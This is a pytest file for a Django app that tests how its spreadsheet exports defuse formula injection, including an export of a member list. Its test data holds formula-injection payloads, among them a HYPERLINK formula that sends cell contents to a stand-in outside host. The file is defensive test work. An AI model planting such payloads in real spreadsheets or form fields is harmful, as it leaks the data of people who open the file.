"""Every spreadsheet the app writes neutralizes formula-like text, in one place (issue 8 §5)."""

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from dangvu.core import spreadsheets
from tests.members import register

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "\t=1+1", "+1+1", "-2+3", "@SUM(A1)", "\r=1"]
PACKAGE = Path(__file__).resolve().parents[2] / "dangvu"


def _read(data: bytes):
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_is_written_as_text(text):
    wb = spreadsheets.workbook()
    wb.active["A1"] = text
    wb.active["B1"] = "Nguyễn Văn An"
    cell, plain = _read(spreadsheets.to_bytes(wb)).active["A1"], _read(spreadsheets.to_bytes(wb)).active["B1"]
    assert cell.data_type == "s" and cell.value == "'" + text
    assert plain.value == "Nguyễn Văn An"


def test_numbers_dates_and_empty_cells_stay_what_they_are():
    wb = spreadsheets.workbook()
    ws = wb.active
    ws.append([-5, 3.5, Decimal("-0.25"), dt.date(2026, 12, 3), None, "12", "a=b"])
    row = next(_read(spreadsheets.to_bytes(wb)).active.iter_rows(values_only=True))
    assert row[:3] == (-5, 3.5, -0.25) and row[3].date() == dt.date(2026, 12, 3)
    assert row[4] is None and row[5:] == ("12", "a=b")


def test_write_only_workbooks_neutralize_appended_rows():
    wb = spreadsheets.workbook(write_only=True)
    ws = wb.create_sheet("x")
    cell = WriteOnlyCell(ws, value="=1+1")
    ws.append([EVIL[0], cell, 7, -7])
    row = next(_read(spreadsheets.to_bytes(wb))["x"].iter_rows(values_only=True))
    assert row == ("'" + EVIL[0], "'=1+1", 7, -7)


def test_member_export_neutralizes_a_formula_name(client, cast):
    """The issue's attack: a member named =HYPERLINK(…) exported as a live formula in the XLSX list."""
    register('=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', cast.tree.cell_a1)
    client.force_login(cast.officer_a)
    sheet = _read(client.get(reverse("members:export")).content).active
    names = [c for c in sheet["B"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [c.data_type for c in names] == ["s"] and names[0].value.startswith("'=HYPERLINK(")


def test_no_module_writes_a_workbook_another_way():
    """openpyxl's Workbook is made, and saved, only by core.spreadsheets."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|from openpyxl import [^\n]*\bWorkbook\b|\bwb\.save\(", text):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []
